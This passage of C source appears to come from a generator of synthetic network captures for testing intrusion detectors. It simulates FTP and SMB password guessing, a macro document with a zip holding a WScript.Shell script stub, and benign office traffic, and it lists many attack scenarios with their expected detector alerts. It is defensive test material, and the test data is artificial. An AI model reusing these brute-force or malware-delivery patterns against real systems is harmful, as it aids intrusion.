        now_us += 300 * SEC + rnd(1000000);
    }
}

static void sc_browse_benign(void)
{
    /* benign: a person uses one web application for two hours: irregular
     * gaps, pages of very different sizes */
    for (int i = 0; i < 60; i++) {
        short_session(*lan_host(43), (uint16_t)(52500 + i), A4(13, 107, 42, 14), 443,
                      400 + rnd(3000), 2000 + rnd(150000));
        now_us += (5 + rnd(300)) * SEC;
    }
}

static void sc_ftp_guess(void)
{
    /* one FTP connection, twelve wrong passwords for admin */
    tconn t;
    char l[128];
    tc_open(&t, A4(193, 32, 161, 77), 43000, *lan_host(71), 21);
    tc_send(&t, 1, "220 NAS FTP ready\r\n", 19);
    for (int i = 0; i < 12; i++) {
        tc_send(&t, 0, "USER admin\r\n", 12);
        tc_send(&t, 1, "331 Password required\r\n", 23);
        int n = snprintf(l, sizeof l, "PASS guess%02d\r\n", i);
        tc_send(&t, 0, l, (size_t)n);
        tc_send(&t, 1, "530 Login incorrect.\r\n", 22);
        now_us += SEC;
    }
    tc_close(&t);
}

/* An SMB2 message (64-byte header) with body b, in a NetBIOS frame. */
static size_t smb2_msg(uint8_t *o, uint16_t cmd, int resp, uint32_t status, uint64_t mid,
                       const uint8_t *b, size_t bn)
{
    size_t n = 64 + bn;
    memset(o, 0, 4 + 64);
    o[1] = (uint8_t)(n >> 16);
    o[2] = (uint8_t)(n >> 8);
    o[3] = (uint8_t)n;
    uint8_t *h = o + 4;
    memcpy(h, "\xfeSMB", 4);
    h[4] = 64;
    h[8] = (uint8_t)status;
    h[9] = (uint8_t)(status >> 8);
    h[10] = (uint8_t)(status >> 16);
    h[11] = (uint8_t)(status >> 24);
    h[12] = (uint8_t)cmd;
    h[16] = resp ? 1 : 0;
    for (int i = 0; i < 8; i++)
        h[24 + i] = (uint8_t)(mid >> (8 * i));
    memcpy(h + 64, b, bn);
    return 4 + n;
}

static void sc_smb_guess(void)
{
    /* an outsider tries twelve passwords on the file server: SMB2 session
     * setups refused with STATUS_LOGON_FAILURE, three per connection */
    uint8_t m[512];
    static const uint8_t req[24] = {25, 0, 0, 1, 0, 0, 0, 0, 0, 0, 0, 0, 88, 0, 0, 0};
    static const uint8_t rsp[8] = {9, 0, 0, 0, 72, 0, 0, 0};
    uint64_t mid = 1;
    for (int c = 0; c < 4; c++) {
        tconn t;
        tc_open(&t, A4(89, 248, 165, 30), (uint16_t)(44000 + c), *lan_host(5), 445);
        for (int i = 0; i < 3; i++, mid++) {
            uint8_t body[24 + 16];
            memcpy(body, req, 24);
            memcpy(body + 24, "NTLMSSP\0\3\0\0\0\0\0\0\0", 16);
            tc_send(&t, 0, m, smb2_msg(m, 1, 0, 0, mid, body, sizeof body));
            tc_send(&t, 1, m, smb2_msg(m, 1, 1, 0xC000006Du, mid, rsp, sizeof rsp));
        }
        tc_close(&t);
        now_us += 2 * SEC;
    }
}

/* A zip local file header and stored data for a member. */
static size_t zip_member(uint8_t *o, const char *name, const char *data)
{
    size_t nl = strlen(name), dl = strlen(data);
    memset(o, 0, 30);
    memcpy(o, "PK\x03\x04", 4);
    o[4] = 20;
    o[18] = o[22] = (uint8_t)dl;                /* sizes (stored) */
    o[26] = (uint8_t)nl;
    memcpy(o + 30, name, nl);
    memcpy(o + 30 + nl, data, dl);
    return 30 + nl + dl;
}

static void sc_maldoc(void)
{
    /* an Office document with macros and a zip whose second member is a
     * script, as mail-borne malware arrives (here by web download) */
    static uint8_t doc[8192], zip[1024];
    memset(doc, 0, sizeof doc);
    memcpy(doc, "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", 8);
    static const char vba[] = "_\0V\0B\0A\0_\0P\0R\0O\0J\0E\0C\0T\0";
    memcpy(doc + 5000, vba, sizeof vba - 1);    /* a directory entry's name */
    size_t z = zip_member(zip, "readme.txt", "Please see the attached invoice.");
    z += zip_member(zip + z, "invoice_2026.js", "var s=WScript.CreateObject('WScript.Shell');");
    addr srv = A4(93, 184, 216, 40);
    dns_exchange(*lan_host(44), A4(8, 8, 8, 8), 11, "share.example.net", &srv, 1);
    http_get(*lan_host(44), 50300, srv, "share.example.net", "/files/invoice.doc", doc,
             sizeof doc, "application/msword");
    addr srv2 = A4(93, 184, 216, 42);
    dns_exchange(*lan_host(44), A4(8, 8, 8, 8), 13, "dl.example.net", &srv2, 1);
    http_get(*lan_host(44), 50301, srv2, "dl.example.net", "/files/invoice.zip", zip, z,
             "application/zip");
}

static void sc_docx_benign(void)
{
    /* benign: a plain Word document (no macros) and a zip of pictures */
    static uint8_t docx[1024], zip[1024];
    size_t k = zip_member(docx, "[Content_Types].xml", "<Types/>");
    k += zip_member(docx + k, "word/document.xml", "<w:document/>");
    size_t z = zip_member(zip, "photo1.jpg", "\xff\xd8\xff\xe0 jpeg");
    z += zip_member(zip + z, "photo2.jpg", "\xff\xd8\xff\xe0 jpeg");
    addr srv = A4(93, 184, 216, 41);
    dns_exchange(*lan_host(45), A4(8, 8, 8, 8), 12, "share.example.org", &srv, 1);
    http_get(*lan_host(45), 50400, srv, "share.example.org", "/report.docx", docx, k,
             "application/vnd.openxmlformats-officedocument.wordprocessingml.document");
    http_get(*lan_host(45), 50401, srv, "share.example.org", "/photos.zip", zip, z,
             "application/zip");
}

typedef struct scenario {
    const char *name;
    void (*fn)(void);
    const char *expect;         /* what the detectors should make of it */
} scenario;

static const scenario scenarios[] = {
    {"gh0st", sc_gh0st, "8700060 gh0st (two PCs: magic Gh0st and a changed magic)"},
    {"rdp-bruteforce", sc_rdp_bruteforce,
     "8700012 rdp guessing, 8700011 administrator, 8700010 inbound, 8700013 success after guessing"},
    {"rdp-single", sc_rdp_single, "benign: 8700010 only (severity 3), no 8700012/8700013"},
    {"rdp-sweep", sc_rdp_sweep, "8700014 outbound RDP to many hosts"},
    {"ntp-flood", sc_ntp_flood, "8700023 NTP flood received"},
    {"ntp-small-flood", sc_ntp_small_flood, "8700023 unasked monlist answers from two reflectors"},
    {"ntp-answer-in", sc_ntp_answer_in, "8700024 one monlist answer nobody asked for, to a company PC (severity 3)"},
    {"ntp-reflector", sc_ntp_reflector, "8700020 monlist, 8700021 large mode 7, 8700022 reflector"},
    {"ntp-benign", sc_ntp_benign, "benign: no alert"},
    {"sslv3-server", sc_sslv3_server, "8700030 SSLv3 negotiated, 8700031 client, 8700032 exposed"},
    {"tls-benign", sc_tls_benign, "benign: no alert"},
    {"weblogic", sc_weblogic, "8700072 WebLogic CVE-2017-10271"},
    {"powershell", sc_powershell, "8700083 PowerShell, 8700081 DDNS name"},
    {"sinkhole", sc_sinkhole, "8700082 sinkholed and dead answers, two minutes apart"},
    {"bare-ip", sc_bare_ip, "8700080 TLS to an unnamed address"},
    {"exe-disguised", sc_exe_disguised, "8700041 program served as a picture from DDNS"},
    {"exe-declared", sc_exe_declared, "8700041 a program the server declares as a picture"},
    {"exe-benign", sc_exe_benign, "benign: 8700040 only (severity 3)"},
    {"smb-internet", sc_smb_internet, "8700053 SMB with the Internet"},
    {"smb-benign", sc_smb_benign, "benign: no alert"},
    {"telnet-inbound", sc_telnet_inbound, "8700093 IoT port from the Internet"},
    {"ssh-guess", sc_ssh_guess, "8700092 password guessing"},
    {"heartbeat-benign", sc_heartbleed_benign, "benign: no alert"},
    {"exploit-kit", sc_exploit_kit, "8700100 container after a page view, 8700101 payload"},
    {"web-benign", sc_web_benign, "benign: 8700040 only (a named vendor's program)"},
    {"ftp-guess", sc_ftp_guess, "8700092 twelve refused FTP logins in one connection"},
    {"smb-guess", sc_smb_guess, "8700092 twelve refused SMB2 session setups, 8700053 SMB from the Internet"},
    {"maldoc", sc_maldoc, "8700041 a document with macros, and a zip holding a script"},
    {"docx-benign", sc_docx_benign, "benign: a plain document and a zip of pictures, no alert"},
    {"beacon", sc_beacon, "8700084 beaconing every 60 s for two hours (to a bare address: severity 2)"},
    {"beacon-tls", sc_beacon_tls, "8700084 HTTPS beacon to a bare address, self-signed young certificate: severity 1"},
    {"beacon-vendor", sc_beacon_vendor, "benign: a Microsoft check-in every 60 s (no alert)"},
    {"beacon-saas", sc_beacon_saas, "benign: an unknown web service polled every 5 min (8700084 at severity 3 at most)"},
    {"browse-benign", sc_browse_benign, "benign: irregular use of one web application, no alert"},
    {"ek-rig", sc_ek_rig,
     "8700103 obfuscated landing on a bare address, 8700100 Flash, 8700101 encrypted payload"},
    {"ek-vbscript", sc_ek_vbscript,
     "8700103 VBScript landing after a redirect, 8700104 encrypted payload declared a program"},
    {"ek-xor", sc_ek_xor, "8700103 escaped-script landing, 8700104 XOR-encoded program"},
    {"ek-plugin", sc_ek_plugin,
     "8700104 encrypted payload after a plain landing that loads Flash (exploit unseen)"},
    {"news-benign", sc_news_benign,
     "benign: a news site, many new hosts, minified scripts, fonts, video, no alert"},
    {"download-benign", sc_download_benign,
     "benign: a vendor's installer and data pack from its download host, 8700040 only"},
    {"stealer-http", sc_stealer_http,
     "8700110 base64 uploads to a PHP gate on a bare address, 8700080 bare address"},
    {"stealer-lokibot", sc_stealer_lokibot, "8700110 LokiBot's user agent and binary report"},
    {"stealer-smtp", sc_stealer_smtp, "8700112 PW_ report mailed to the sender's free mail account"},
    {"stealer-ftp", sc_stealer_ftp, "8700111 PW_ report stored on an FTP host"},
    {"upload-benign", sc_upload_benign,
     "benign: OCSP, an SDK's binary statistics, JSON telemetry, no alert"},
    {"mail-benign", sc_mail_benign,
     "benign: a zipped report to Gmail and its password in a second mail, no alert"},
    {"ftp-benign", sc_ftp_benign, "benign: a web site and a dated backup uploaded by FTP, no alert"},
};

#define NSCEN (sizeof scenarios / sizeof scenarios[0])

static const scenario *find_scenario(const char *name, size_t len)
{
    for (size_t i = 0; i < NSCEN; i++)
        if (strlen(scenarios[i].name) == len && memcmp(scenarios[i].name, name, len) == 0)
            return &scenarios[i];
    return NULL;
}

/* --- a whole company over days ------------------------------------------- */

/* Well-known services the staff use, each with an address in the operator's
 * own network, so their countries come out as they would in life. */
static const struct site {
    const char *name;
    uint8_t a[4];
} office_sites[] = {
    {"www.yahoo.co.jp", {183, 79, 219, 252}},
    {"www.google.com", {142, 250, 196, 100}},
    {"outlook.office365.com", {52, 98, 152, 178}},
    {"www.nikkei.com", {23, 45, 200, 11}},
    {"s3.ap-northeast-1.amazonaws.com", {52, 219, 16, 3}},
    {"www.rakuten.co.jp", {133, 237, 16, 142}},
    {"update.microsoft.com", {20, 72, 235, 82}},
    {"www.line.me", {147, 92, 128, 20}},
};

/* With --checkins, what every office PC sends all day on its own, at
 * fixed intervals with fixed sizes (each a TLS session with its name, or
 * a plain HTTP fetch): the vendors' update checks, chat presence, cloud
 * sync long-polls and anti-virus updates, and one business SaaS no list
 * knows. The addresses are in the operators' own networks. */
static const struct checkin {
    const char *name;
    uint8_t a[4];
    unsigned every;             /* seconds */
    unsigned up, down;          /* bytes of application data each way (0: HTTP) */
} checkins[] = {
    {"settings-win.data.microsoft.com", {20, 42, 65, 92}, 1800, 1200, 4000},
    {"presence.teams.microsoft.com", {52, 113, 194, 132}, 60, 600, 900},
    {"update.googleapis.com", {142, 250, 196, 99}, 2700, 900, 1500},
    {"iaus.trendmicro.com", {23, 46, 16, 10}, 3600, 700, 2500},
    {"bolt.dropbox.com", {162, 125, 19, 131}, 90, 400, 400},
    {"ctldl.windowsupdate.com", {13, 107, 4, 50}, 3600, 0, 0},
    {"app.example-saas.jp", {153, 127, 50, 10}, 300, 800, 1200},
};
#define NCHECKINS (sizeof checkins / sizeof checkins[0])
static int with_checkins;

/* The check-ins due before second t of the day (each PC's own phase). */
static void checkins_until(uint64_t midnight, unsigned nhosts, unsigned t, unsigned (*due)[NCHECKINS],
                           uint16_t *port)
{
    static uint16_t id = 40000;
    for (;;) {
        unsigned best = UINT32_MAX, bh = 0, bc = 0;
        for (unsigned h = 0; h < nhosts; h++)
            for (unsigned c = 0; c < NCHECKINS; c++)
                if (due[h][c] < best)
                    best = due[h][c], bh = h, bc = c;
        if (best > t)
            return;
        const struct checkin *ck = &checkins[bc];
        due[bh][bc] += ck->every;
        if (now_us < midnight + best * SEC)
            now_us = midnight + best * SEC;
        addr pc = *lan_host((int)(10 + bh)), ip = A4(ck->a[0], ck->a[1], ck->a[2], ck->a[3]);
        if ((due[bh][bc] / ck->every) % 10 == 1) {  /* the name looked up now and then */
            dns_exchange(pc, *lan_host(1), ++id, ck->name, &ip, 1);
            now_us += 20000;
        }
        *port = *port >= 60000 ? 20000 : (uint16_t)(*port + 1);
        if (ck->up)
            tls_session(pc, *port, ip, 443, 0x0303, 0xc02f, ck->name, ck->up);
        else
            http_get(pc, *port, ip, ck->name, "/msdownload/update/v3/static/trustedr/en/disallowedcertstl.cab",
                     "MSCF", 4, "application/vnd.ms-cab-compressed");
    }
}

/* One working day of ordinary use by nhosts PCs (192.168.1.10 on), from
 * 09:00 to 18:00 local time, with the attacks of the day at the times given (seconds
 * after midnight), in time order. */
typedef struct attack_at {
    unsigned at;
    const scenario *sc;
} attack_at;

static void office_day(uint64_t midnight, unsigned nhosts, const attack_at *atk, size_t natk)
{
    static uint16_t id, port = 20000;
    size_t next = 0;
    static unsigned due[200][NCHECKINS];
    for (unsigned h = 0; h < nhosts && with_checkins; h++)
        for (unsigned c = 0; c < NCHECKINS; c++)   /* PCs start between 08:30 and 09:00 */
            due[h][c] = 8 * 3600 + 1800 + (h * 37 + c * 11) % 1800;
    for (unsigned t = 9 * 3600; t < 18 * 3600; t += 60 + rnd(540)) {
        if (with_checkins)
            checkins_until(midnight, nhosts, t, due, &port);
        while (next < natk && atk[next].at <= t) {
            if (now_us < midnight + atk[next].at * SEC)
                now_us = midnight + atk[next].at * SEC;
            atk[next].sc->fn();
            next++;
        }
        if (now_us < midnight + t * SEC)
            now_us = midnight + t * SEC;
        const struct site *st = &office_sites[rnd(sizeof office_sites / sizeof office_sites[0])];
        addr pc = *lan_host((int)(10 + rnd(nhosts))), ip = A4(st->a[0], st->a[1], st->a[2], st->a[3]);
        dns_exchange(pc, *lan_host(1), ++id, st->name, &ip, 1);
        now_us += 20000;
        port = port >= 60000 ? 20000 : (uint16_t)(port + 1);
        tls_session(pc, port, ip, 443, 0x0303, 0xc02f, st->name, 500 + rnd(40000));
    }
    if (with_checkins)
        checkins_until(midnight, nhosts, 18 * 3600, due, &port);
    for (; next < natk; next++) {
        if (now_us < midnight + atk[next].at * SEC)
            now_us = midnight + atk[next].at * SEC;
        atk[next].sc->fn();
    }
}

/* mm-attackgen company [--days N] [--hosts N] [--seed N] [--attacks A,B,...]
 * OUT.pcap: the attacks are spread over the days, one every day in turn,
 * each at a time of its own between 08:00 and 20:00 (some out of hours). */
static int company(int argc, char **argv)
{
    unsigned days = 3, hosts = 20;
    const char *list = "";
    const char *outp = NULL;
    for (int i = 2; i < argc; i++) {
        const char *v = i + 1 < argc ? argv[i + 1] : NULL;
        char *end;
        if (strcmp(argv[i], "--days") == 0 && v) {
            days = (unsigned)strtoul(v, &end, 10);
            if (*end || days < 1 || days > 366)
                goto usage;
        } else if (strcmp(argv[i], "--hosts") == 0 && v) {
            hosts = (unsigned)strtoul(v, &end, 10);
            if (*end || hosts < 1 || hosts > 200)
                goto usage;
        } else if (strcmp(argv[i], "--seed") == 0 && v) {
            lcg = (uint32_t)strtoul(v, &end, 10);
            if (*end)
                goto usage;
        } else if (strcmp(argv[i], "--attacks") == 0 && v) {
            list = v;
        } else if (strcmp(argv[i], "--checkins") == 0) {
            with_checkins = 1;
            continue;
        } else if (argv[i][0] != '-' && !outp) {
            outp = argv[i];
            continue;
        } else {
            goto usage;
        }
        i++;
    }
    if (!outp)
        goto usage;
    attack_at atk[64];
    size_t natk = 0;
    for (const char *p = list; *p;) {
        size_t l = strcspn(p, ",");
        const scenario *sc = find_scenario(p, l);
        if (!sc) {
            fprintf(stderr, "mm-attackgen: unknown scenario '%.*s' (--list)\n", (int)l, p);
            return 2;
        }
        if (natk == sizeof atk / sizeof atk[0]) {
            fprintf(stderr, "mm-attackgen: at most %zu attacks\n", natk);
            return 2;
        }
        atk[natk++] = (attack_at){0, sc};
        p += l + (p[l] == ',');
    }
    if (!pw_open(outp, 1700000000ULL * SEC)) {
        perror(outp);
        return 1;
    }
    /* the company is in Japan: its days begin at midnight JST (UTC+9) */
    uint64_t day0 = ((1700000000ULL + 9 * 3600) / 86400 + 1) * 86400 - 9 * 3600;
    for (unsigned d = 0; d < days; d++) {
        attack_at today[64];
        size_t n = 0;
        for (size_t i = d; i < natk; i += days)
            today[n++] = (attack_at){8 * 3600 + rnd(12 * 3600), atk[i].sc};
        for (size_t i = 1; i < n; i++)      /* in time order */
            for (size_t j = i; j > 0 && today[j].at < today[j - 1].at; j--) {
                attack_at x = today[j];
                today[j] = today[j - 1];
                today[j - 1] = x;
            }
        office_day((day0 + 86400ULL * d) * SEC, hosts, today, n);
    }
    if (!pw_close()) {
        perror(outp);
        return 1;
    }
    return 0;
usage:
    fprintf(stderr, "usage: mm-attackgen company [--days N] [--hosts N] [--seed N] "
                    "[--attacks SCENARIO,...] [--checkins] OUT.pcap\n");
    return 2;
}

int main(int argc, char **argv)
{
    if (argc == 2 && strcmp(argv[1], "--list") == 0) {
        for (size_t i = 0; i < NSCEN; i++)
            printf("%-18s %s\n", scenarios[i].name, scenarios[i].expect);
        return 0;
    }
    if (argc >= 2 && strcmp(argv[1], "company") == 0)
        return company(argc, argv);
    if (argc != 3) {
        fprintf(stderr, "usage: mm-attackgen --list | mm-attackgen SCENARIO OUT.pcap |\n"
                        "       mm-attackgen company [--days N] [--hosts N] [--seed N] "
                        "[--attacks SCENARIO,...] [--checkins] OUT.pcap\n");
        return 2;
    }
    const scenario *sc = find_scenario(argv[1], strlen(argv[1]));
    if (!sc) {
        fprintf(stderr, "mm-attackgen: unknown scenario '%s' (--list)\n", argv[1]);
        return 2;
    }
    if (!pw_open(argv[2], 1700000000ULL * SEC)) {
        perror(argv[2]);
        return 1;
    }
    sc->fn();
    if (!pw_close()) {
        perror(argv[2]);
        return 1;
    }
    return 0;
}
